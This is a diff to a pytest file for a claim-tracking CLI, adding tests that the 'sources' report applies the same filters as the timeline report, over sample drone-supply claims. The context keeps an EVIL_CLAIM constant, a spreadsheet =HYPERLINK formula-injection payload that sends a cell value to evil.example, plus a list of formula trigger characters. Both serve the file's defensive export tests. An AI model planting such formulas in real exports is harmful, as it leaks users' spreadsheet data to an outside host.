@@ -20,6 +20,10 @@ from factdb.interchange.reports import SIDE_BY_SIDE_COLUMNS, SOURCES_COLUMNS, TI
 
 REPORTS = ("side-by-side", "matrix", "timeline", "sources")
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+SEED_URL = (
+    "https://www.thenationalnews.com/world/asia/2023/07/27/"
+    "north-koreas-kim-jong-un-gives-missile-tour-to-russias-defence-minister/"
+)
 EVIL_CLAIM = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
@@ -144,6 +148,88 @@ def test_report_agrees_with_list(seeded_cli, tmp_path, filters):
     assert sorted(frame["claim_id"], key=int) == sorted((str(r["id"]) for r in listed), key=int)
     matrix = report(seeded_cli, tmp_path, "matrix", *filters)
     assert sorted(matrix["claim_id"], key=int) == sorted((str(r["id"]) for r in listed), key=int)
+
+
+@pytest.fixture
+def sourced_cli(seeded_cli):
+    """The seed article (one source) plus two more sources: one on a new claim tagged
+    `iran-drones`, a contested one; one carrying a retracted assertion alone."""
+    cli = seeded_cli
+    cli.add(
+        "Iran supplied drones to Russia",
+        by="United States",
+        stance="asserts",
+        source="https://example.org/drones-us",
+        date="2022-10",
+        quote="Iranian drones hit Kyiv",
+        tags=["iran-drones"],
+    )
+    cli.add(
+        "Iran supplied drones to Russia",
+        by="Iran",
+        stance="denies",
+        source="https://example.org/drones-iran",
+        date="2022-12-19",
+        tags=["iran-drones"],
+    )
+    retracted = cli.add(
+        1,
+        by="Russia",
+        stance="denies",
+        source="https://example.org/withdrawn",
+        date="2023-08",
+        format="json",
+    ).json()
+    cli.ok("retract", str(retracted["assertion_id"]), "--reason", "misread")
+    return cli
+
+
+@pytest.mark.parametrize(
+    "filters",
+    [
+        [],
+        ["--contested"],
+        ["--actor", "Iran"],
+        ["--tag", "iran-drones"],
+        ["--as-of", "2022-11"],
+        ["--since", "2023-07-27"],
+        ["--search", "drones"],
+        ["--sanction", "UNSC Resolution 1718"],
+        ["--stance", "denies"],
+        ["--limit", "3"],
+        ["--include-retracted"],
+    ],
+    ids=lambda f: " ".join(f) or "none",
+)
+def test_sources_report_is_filtered_like_the_timeline(sourced_cli, tmp_path, filters):
+    """The sources report lists the sources of the assertions the timeline report counts
+    under the same filters, each with how many of them it carries and on how many claims."""
+    timeline = report(sourced_cli, tmp_path, "timeline", *filters)
+    frame = report(sourced_cli, tmp_path, "sources", *filters)
+    assert list(frame.columns) == SOURCES_COLUMNS
+    expected = {
+        url: (str(len(rows)), str(rows["claim_id"].nunique()))
+        for url, rows in timeline.groupby("source_url")
+    }
+    got = {row["url"]: (row["assertions"], row["claims"]) for _, row in frame.iterrows()}
+    assert got == expected
+    assert list(frame["source_id"]) == sorted(frame["source_id"], key=int)
+
+
+def test_sources_report_filters_cut_rows(sourced_cli, tmp_path):
+    everything = report(sourced_cli, tmp_path, "sources")
+    assert len(everything) == 3  # the withdrawn source carries nothing that counts
+    tagged = report(sourced_cli, tmp_path, "sources", "--tag", "iran-drones")
+    assert set(tagged["url"]) == {
+        "https://example.org/drones-us",
+        "https://example.org/drones-iran",
+    }
+    as_of = report(sourced_cli, tmp_path, "sources", "--as-of", "2022-11")
+    assert set(as_of["url"]) == {"https://example.org/drones-us", SEED_URL}
+    assert list(as_of[as_of["url"] == SEED_URL]["assertions"]) == ["1"]  # the 2022 one
+    assert len(report(sourced_cli, tmp_path, "sources", "--limit", "0")) == 0
+    withdrawn = report(sourced_cli, tmp_path, "sources", "--include-retracted")
+    assert "https://example.org/withdrawn" in set(withdrawn["url"])
 
 
 def test_output_to_stdout(seeded_cli, tmp_path):
